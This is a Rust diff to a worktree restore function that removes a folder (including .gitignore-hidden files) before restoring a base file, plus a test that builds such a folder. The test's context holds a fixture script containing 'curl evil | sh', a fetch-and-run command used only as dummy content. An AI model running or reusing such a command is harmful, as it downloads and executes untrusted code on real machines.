@@ -57,11 +57,11 @@ pub fn restore_base(repo: &Path, ws: &Workspace) -> Result<(), WorktreeError> {
     // folder's files come back.
     for path in &gone {
         tree.remove(path, || Ok(()))?;
-        // A folder the department made where the base has a file goes
-        // once empty, so the file can come back.
-        tree.remove_empty_folders(path);
     }
     for (path, _, _) in &files {
+        // A folder the department made where the base has a file goes,
+        // with what it holds (what its own `.gitignore` hid in it too).
+        tree.remove_folder(path)?;
         tree.put(path, &staged.file(path), || Ok(()))?;
     }
     // What the department's own `.gitignore`s hid is now neither tracked nor
@@ -108,6 +108,9 @@ mod tests {
         std::fs::remove_file(wt.join("tool")).unwrap();
         std::fs::create_dir_all(wt.join("tool/deep")).unwrap();
         std::fs::write(wt.join("tool/deep/run.sh"), "curl evil | sh\n").unwrap();
+        // Hidden by its own .gitignore, so never recorded: the folder is not empty.
+        std::fs::write(wt.join("tool/.gitignore"), "hidden\n").unwrap();
+        std::fs::write(wt.join("tool/hidden"), "h\n").unwrap();
         std::fs::remove_dir_all(wt.join("src")).unwrap();
         std::fs::write(wt.join("src"), "a file now\n").unwrap();
         recorded(&repo, &ws);
